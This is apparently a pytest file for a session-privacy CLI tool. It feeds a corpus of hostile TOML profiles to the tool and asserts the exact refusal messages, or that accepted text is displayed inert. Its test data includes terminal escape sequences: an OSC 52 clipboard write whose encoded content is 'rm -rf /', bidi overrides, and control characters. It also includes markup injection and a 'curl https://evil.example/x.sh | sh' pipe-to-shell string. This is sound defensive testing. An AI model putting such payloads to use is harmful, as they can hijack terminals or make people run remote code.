"""The hostile profile corpus (tests/fixtures/profiles) through the installed command: every
refused profile gives exit 2 and names each problem with file, line and key; every accepted one
is shown literally in the plain report, carried as data in the JSON, and inert in `profile
validate`. Never a traceback, never a raw escape on the terminal."""

from __future__ import annotations

import json
import os
import subprocess
import tomllib
from pathlib import Path

import pytest

from safe_session.cli import main
from safe_session.text import inert
from tests.conftest import FIXTURES, venv_bin
from tests.hostile import FORBIDDEN_IN_TERMINAL
from tests.schema_check import assert_report

CORPUS = FIXTURES / "profiles"
CMD = venv_bin("safe-session")

# Each refused profile and the exact lines `profile validate` prints for it (run from CORPUS).
REFUSED: dict[str, list[str]] = {
    "ansi.toml": [
        "ansi.toml:2:17: practice.name: contains a terminal escape character (U+001B, at character 9); profile text must be plain text",
    ],
    "bad-domains.toml": [
        'bad-domains.toml:3: platform.domains[0]: write the bare host name, like "clientsecure.me", without "https://": nothing in a profile is opened or fetched',
        'bad-domains.toml:4: platform.domains[1]: "*.clientsecure.me" has a wildcard; write each domain itself, like "clientsecure.me"',
        'bad-domains.toml:5: platform.domains[2]: "clientsecure.me:443" has a port or is not a host name; write the host name only, like "clientsecure.me"',
        'bad-domains.toml:6: platform.domains[3]: "clientsecure.me/portal" has a path; write the host name only, like "clientsecure.me"',
        'bad-domains.toml:7: platform.domains[4]: "localhost" is not a full domain name; write the portal\'s domain, like "clientsecure.me"',
        'bad-domains.toml:8: platform.domains[5]: "192.168.1.10" is an IP address; write the portal\'s domain name, like "clientsecure.me"',
        'bad-domains.toml:9: platform.domains[6]: "user@clientsecure.me" is not a host name (it has "@"); write the host name only, like "clientsecure.me"',
        'bad-domains.toml:10: platform.domains[7]: " clientsecure.me" has spaces in it; write the host name only, like "clientsecure.me"',
        'bad-domains.toml:12: platform.domains[9]: "clientsecure.me" is listed twice',
        'bad-domains.toml:13: platform.domains[10]: "-bad-.example" is not a host name: use letters, digits, hyphens and dots, like "clientsecure.me"',
        "bad-domains.toml:14: platform.domains[11]: must not be empty",
    ],
    "bad-language.toml": [
        'bad-language.toml:1: language: "de" is not available: safe-session\'s text exists only in English ("en") so far',
    ],
    "bidi.toml": [
        "bidi.toml:2:13: practice.name: contains an invisible character that reorders text (U+202E, at character 5); profile text must be plain text",
        "bidi.toml:5:15: platform.name: contains an invisible character that reorders text (U+2066, at character 7); profile text must be plain text",
    ],
    "c0.toml": [
        "c0.toml:2:16: after_step[0].text: contains a control character (U+0000, at character 8); profile text must be plain text",
        "c0.toml:3:11: after_step[0].why: contains a control character (U+007F, at character 4); profile text must be plain text",
    ],
    "c1.toml": [
        "c1.toml:2:21: confirm[0].text: contains a terminal escape character (U+009B, at character 13); profile text must be plain text",
    ],
    "deep-arrays.toml": [
        "deep-arrays.toml:2:19: platform.domains: values are nested more than 10 levels deep",
    ],
    "deep-but-parseable.toml": [
        "deep-but-parseable.toml:2: platform.domains[0]: expected text in quotes, got a list",
    ],
    "deep-tables.toml": [
        "deep-tables.toml:2:28: practice.name.a.a.a.a: values are nested more than 10 levels deep",
    ],
    "duplicate-keys.toml": [
        "duplicate-keys.toml:4: practice.name: is set twice (first on line 2); set it once",
    ],
    "duplicate-tables.toml": [
        "duplicate-tables.toml:7: practice: is set twice (first on line 1); set it once",
    ],
    "duplicate-top.toml": [
        "duplicate-top.toml:2: language: is set twice (first on line 1); set it once",
    ],
    "empty-steps.toml": [
        "empty-steps.toml:2: confirm[0].text: must not be empty",
        "empty-steps.toml:4: after_step[0]: missing required key `text`",
    ],
    "hostile-keys.toml": [
        "hostile-keys.toml:2: practice.\\x1b]52;c;cm0gLXJmIC8=\\x07: unknown key (not one a profile may set)",
        "hostile-keys.toml:3: practice.[bold]key[/bold]: unknown key (not one a profile may set)",
    ],
    "huge-number.toml": [
        "huge-number.toml:2:16: thresholds.browser_tabs: holds a number with far too many digits",
    ],
    "huge-string.toml": [
        "huge-string.toml:2:8: practice.name: holds a text of more than 4,000 characters; no text in this file is that long",
    ],
    "invisible.toml": [
        "invisible.toml:3:9: practice.name: contains an invisible character that reorders text (U+200F, at character 1); profile text must be plain text",
        "invisible.toml:4:16: practice.contact: contains an invisible character (U+200B, at character 5); profile text must be plain text",
    ],
    "invalid-utf8.toml": [
        "invalid-utf8.toml:3: is not valid UTF-8 text",
    ],
    "newline.toml": [
        "newline.toml:2: practice.name: contains a line break (U+000A, at character 9); write it on one line",
        "newline.toml:4:15: practice.contact: contains a control character (U+0009, at character 4); profile text must be plain text",
    ],
    "not-toml.toml": [
        "not-toml.toml:2: invalid TOML: Expected '=' after a key in a key/value pair",
    ],
    "off-and-stricter.toml": [
        'off-and-stricter.toml:3: checks.stricter[0]: "network.wifi" is also switched off in checks.off; choose one',
    ],
    "osc-title.toml": [
        "osc-title.toml:2:15: platform.name: contains a terminal escape character (U+001B, at character 7); profile text must be plain text",
    ],
    "osc52.toml": [
        "osc52.toml:3:19: practice.contact: contains a terminal escape character (U+001B, at character 8); profile text must be plain text",
    ],
    "privacy-off.toml": [
        'privacy-off.toml:3: checks.off[0]: "apps.remote_access" can never be switched off by a profile: it looks for remote-access tools that would let someone see or control this computer. It can be made stricter instead',
        'privacy-off.toml:4: checks.off[1]: "apps.monitoring" can never be switched off by a profile: it looks for monitoring software that could watch everything done on this computer. It can be made stricter instead',
        'privacy-off.toml:5: checks.off[2]: "apps.screen_capture" can never be switched off by a profile: it looks for screen recorders and streamers that could record the session. It can be made stricter instead',
        'privacy-off.toml:6: checks.off[3]: "devices.mic_camera_in_use" can never be switched off by a profile: it looks for other apps using the microphone or camera. It can be made stricter instead',
        'privacy-off.toml:7: checks.off[4]: "system.other_sessions" can never be switched off by a profile: it looks for someone else logged in to this computer, here or from elsewhere. It can be made stricter instead',
    ],
    "quiet-above-noisy.toml": [
        "quiet-above-noisy.toml:2: thresholds.noise_quiet_dbfs: must be below noise_noisy_dbfs (-50): a quiet room is quieter than a noisy one",
    ],
    "thresholds.toml": [
        "thresholds.toml:2: thresholds.browser_tabs: expected a whole number from 1 to 100, got 0",
        "thresholds.toml:3: thresholds.browsers: expected a whole number from 1 to 10, got 1000",
        "thresholds.toml:4: thresholds.noise_quiet_dbfs: expected a number from -90 to -10, got nan",
        "thresholds.toml:5: thresholds.noise_noisy_dbfs: expected a number from -90 to -10, got inf",
    ],
    "too-many.toml": [
        "too-many.toml:2: platform.domains: has 21 entries; at most 20 are allowed",
        "too-many.toml:4: confirm: has 11 entries; at most 10 are allowed",
    ],
    "unknown-checks.toml": [
        'unknown-checks.toml:2: checks.off[0]: "apps" is a group of checks; name each one, like "apps.browsers"',
        'unknown-checks.toml:2: checks.off[1]: no check is called "room.privat"; did you mean "room.private"?',
        'unknown-checks.toml:2: checks.off[2]: "network.*" has a wildcard; name each check, like "network.wifi"',
        'unknown-checks.toml:2: checks.off[3]: no check is called "room.profile_1"; did you mean "room.private"?',
        'unknown-checks.toml:3: checks.stricter[0]: "room.private" is a question the person answers; it cannot be made stricter',
        'unknown-checks.toml:3: checks.stricter[1]: no check is called "nothing.here"',
        'unknown-checks.toml:3: checks.stricter[3]: "network.wifi" is listed twice',
    ],
    "unknown-keys.toml": [
        "unknown-keys.toml:2: command: unknown key (not one a profile may set)",
        "unknown-keys.toml:3: update_url: unknown key (not one a profile may set)",
        "unknown-keys.toml:7: practice.logo: unknown key (not one a profile may set)",
        "unknown-keys.toml:9: run: unknown key (not one a profile may set)",
        "unknown-keys.toml:14: confirm[0].on_yes: unknown key (not one a profile may set)",
    ],
    "utf16.toml": [
        "utf16.toml:1: is not valid UTF-8 text",
    ],
    "wrong-types.toml": [
        "wrong-types.toml:1: language: expected text in quotes, got a whole number (1)",
        'wrong-types.toml:2: confirm: expected a list, got text ("not a list")',
        "wrong-types.toml:5: practice.name: expected text in quotes, got a whole number (42)",
        "wrong-types.toml:6: practice.contact: expected text in quotes, got a list",
        "wrong-types.toml:9: platform.name: expected text in quotes, got true (a yes/no value)",
        'wrong-types.toml:10: platform.domains: expected a list, got text ("clientsecure.me")',
        "wrong-types.toml:11: platform.apps[0]: expected text in quotes, got a whole number (1)",
        "wrong-types.toml:11: platform.apps[1]: expected text in quotes, got a decimal number (2.5)",
        "wrong-types.toml:11: platform.apps[2]: expected text in quotes, got a date or time",
        'wrong-types.toml:14: checks.off: expected a list, got text ("room.private")',
        "wrong-types.toml:15: checks.stricter[0]: expected text in quotes, got a table",
        'wrong-types.toml:18: thresholds.browser_tabs: expected a whole number, got text ("ten")',
        "wrong-types.toml:19: thresholds.browsers: expected a whole number, got a decimal number (2.0)",
        'wrong-types.toml:20: thresholds.noise_quiet_dbfs: expected a number, got text ("quiet")',
        "wrong-types.toml:23: after_step[0].text: expected text in quotes, got a whole number (7)",
    ],
}
# Accepted profiles whose text must come through exactly and inertly.
SHOWN = ("markup.toml", "rtl.toml", "longest.toml", "empty.toml", "crlf.toml", "bom.toml")


def run(
    *args: str, cwd: Path = CORPUS, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [CMD, *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=cwd,
        env={**os.environ, **(env or {})},
        stdin=subprocess.DEVNULL,
    )


def assert_terminal_safe(text: str) -> None:
    assert "Traceback" not in text
    assert not any(bad in text for bad in FORBIDDEN_IN_TERMINAL), repr(text)


def test_every_fixture_has_an_expectation() -> None:
    assert {p.name for p in CORPUS.glob("*.toml")} == set(REFUSED) | set(SHOWN)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_validate_names_every_problem(name: str) -> None:
    out = run("profile", "validate", name)
    assert out.returncode == 2 and out.stdout == ""
    assert_terminal_safe(out.stderr)
    *problems, summary = out.stderr.splitlines()
    assert problems == REFUSED[name]
    count = len(REFUSED[name])
    assert summary == (
        f"safe-session: this profile is not valid ({count} problem{'s' if count > 1 else ''}); "
        "fix the lines above and validate it again."
    )


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_check_and_after_refuse_it_in_one_line(
    name: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(CORPUS)
    for args in (["check", "--json", "--profile", name], ["after", "--plain", "--profile", name]):
        assert main(args) == 2
        out, err = capsys.readouterr()
        assert out == ""
        [line] = err.splitlines()
        assert line.startswith("safe-session: profile: " + REFUSED[name][0])
        assert_terminal_safe(line)
    monkeypatch.setenv("SAFE_SESSION_PROFILE", name)
    assert main(["check", "--plain"]) == 2
    assert capsys.readouterr().err.startswith("safe-session: profile: " + REFUSED[name][0])


def test_the_real_command_refuses_from_the_environment_too() -> None:
    out = run("check", "--json", env={"SAFE_SESSION_PROFILE": "osc52.toml"})
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr.strip() == "safe-session: profile: " + REFUSED["osc52.toml"][0]


@pytest.mark.parametrize("name", SHOWN)
def test_accepted_profiles_are_shown_literally(name: str) -> None:
    written = tomllib.loads((CORPUS / name).read_bytes().decode("utf-8-sig"))
    expected_name = written.get("practice", {}).get("name") or Path(name).stem
    confirms = [c["text"] for c in written.get("confirm", [])]

    out = run("check", "--json", "--only", "room,account", "--profile", name)
    assert out.returncode == 0, out.stderr
    data = json.loads(out.stdout)
    assert_report(data)
    assert data["profile"]["name"] == expected_name
    assert data["profile"].get("contact", "") == written.get("practice", {}).get("contact", "")
    mine = [r for r in data["results"] if ".profile_" in r["id"]]
    assert [r["summary"] for r in mine] == confirms
    assert all(r["status"] == "manual" for r in mine)

    plain = run("check", "--plain", "--only", "room,account", "--profile", name)
    assert plain.returncode == 0
    assert_terminal_safe(plain.stdout)
    assert f"Profile: {inert(expected_name)}\n" in plain.stdout

    valid = run("profile", "validate", name)
    assert valid.returncode == 0 and valid.stderr == ""
    assert_terminal_safe(valid.stdout)
    assert valid.stdout.startswith(f"{name}: a valid profile, for {inert(expected_name)}.\n")


def test_markup_is_text_not_formatting() -> None:
    out = run("check", "--plain", "--only", "room", "--profile", "markup.toml")
    assert (
        "Profile: [bold red]Dr. Evil[/bold red] [link=https://evil.example]click[/link]"
        in out.stdout
    )
    assert "CONFIRM   [reverse]Press Y to continue[/reverse]" in out.stdout
    valid = run("profile", "validate", "markup.toml").stdout
    assert "[@click=app.quit]Yes[/]" in valid and "`curl https://evil.example/x.sh | sh`" in valid


def test_right_to_left_text_is_kept_and_invisible_marks_in_a_file_name_are_shown(
    tmp_path: Path,
) -> None:
    """Right-to-left text is ordinary text. The marks that reorder or hide text are refused
    inside a profile (invisible.toml); in its file name they are shown as escapes."""
    out = run("check", "--plain", "--only", "room", "--profile", "rtl.toml").stdout
    assert "Profile: עיסוק טיפולי Café 日本 🎧\n" in out
    assert "هل أنت وحدك في الغرفة؟" in out
    stem = "\u200fעיסוק\u200f zero\u200bwidth BOM\ufeff ALM\u061c"
    (tmp_path / f"{stem}.toml").write_text('[[confirm]]\ntext = "Door closed?"\n')
    path = str(tmp_path / f"{stem}.toml")
    plain = run("check", "--plain", "--only", "room", "--profile", path).stdout
    assert "Profile: \\u200fעיסוק\\u200f zero\\u200bwidth BOM\\ufeff ALM\\u061c\n" in plain
    data = json.loads(run("check", "--json", "--only", "room", "--profile", path).stdout)
    assert data["profile"]["name"] == stem


def test_a_file_name_is_profile_text_too(tmp_path: Path) -> None:
    """A profile without a practice name is named after its file, and file names can hold
    anything the loader would refuse inside the file."""
    stem = "Dr\x1b]52;c;cm0gLXJmIC8=\x07 [bold red]Evil[@click=app.quit] \u202eevil\x9b2J"
    (tmp_path / f"{stem}.toml").write_text('[[confirm]]\ntext = "Door closed?"\n')
    path = str(tmp_path / f"{stem}.toml")
    data = json.loads(run("check", "--json", "--only", "room", "--profile", path).stdout)
    assert data["profile"] == {"name": stem, "source": "file"}
    assert (
        next(r for r in data["results"] if r["id"] == "room.profile_1")["title"]
        == f"Asked by {stem}"
    )
    for out in (
        run("check", "--plain", "--only", "room", "--profile", path),
        run("profile", "validate", path),
    ):
        assert out.returncode == 0
        assert_terminal_safe(out.stdout)
        assert inert(stem) in out.stdout
    (tmp_path / f"{stem}.toml").write_text("oops = 1\n")
    refused = run("profile", "validate", path)
    assert refused.returncode == 2
    assert_terminal_safe(refused.stderr)
    assert refused.stderr.startswith(f"{inert(path)}:1: oops: unknown key")


def test_a_file_too_big_is_refused_unread(tmp_path: Path) -> None:
    big = tmp_path / "big.toml"
    big.write_text("# padding\n" * 7000)  # 70 KB of comments: valid TOML, too big
    out = run("profile", "validate", str(big))
    assert out.returncode == 2
    assert out.stderr.splitlines()[0] == f"{big}: is 70,000 bytes; at most 65,536 bytes are allowed"


def test_devices_and_pipes_never_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "profile.toml"
    os.mkfifo(fifo)
    for path in ("/dev/zero", "/dev/urandom", str(fifo)):
        out = run("check", "--json", "--profile", path)  # the 60-second timeout would fail it
        assert out.returncode == 2
        assert out.stderr.strip() == (
            f"safe-session: profile: {path}: is not a regular file (a device or a pipe?)"
        )
